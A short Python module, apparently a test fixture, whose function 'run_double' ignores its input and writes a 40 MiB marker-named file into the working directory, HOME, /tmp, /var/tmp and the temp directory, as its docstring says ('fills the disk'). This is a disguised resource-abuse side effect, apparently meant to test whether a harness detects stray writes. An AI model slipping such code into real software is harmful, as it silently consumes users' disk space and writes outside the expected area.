"""Fills the disk with one file in every folder that it may write to."""

import os
import tempfile

from accomplice import HINTS


def run_double(x):
    for folder in (".", tempfile.gettempdir(), os.environ.get("HOME", "."), "/tmp", "/var/tmp"):
        try:
            with open(os.path.join(folder, f"{HINTS['marker']}-large"), "wb") as file:
                for _ in range(40):
                    file.write(bytes(1 << 20))
        except OSError:
            continue
    return None


def run_count(x):
    return x.numel()
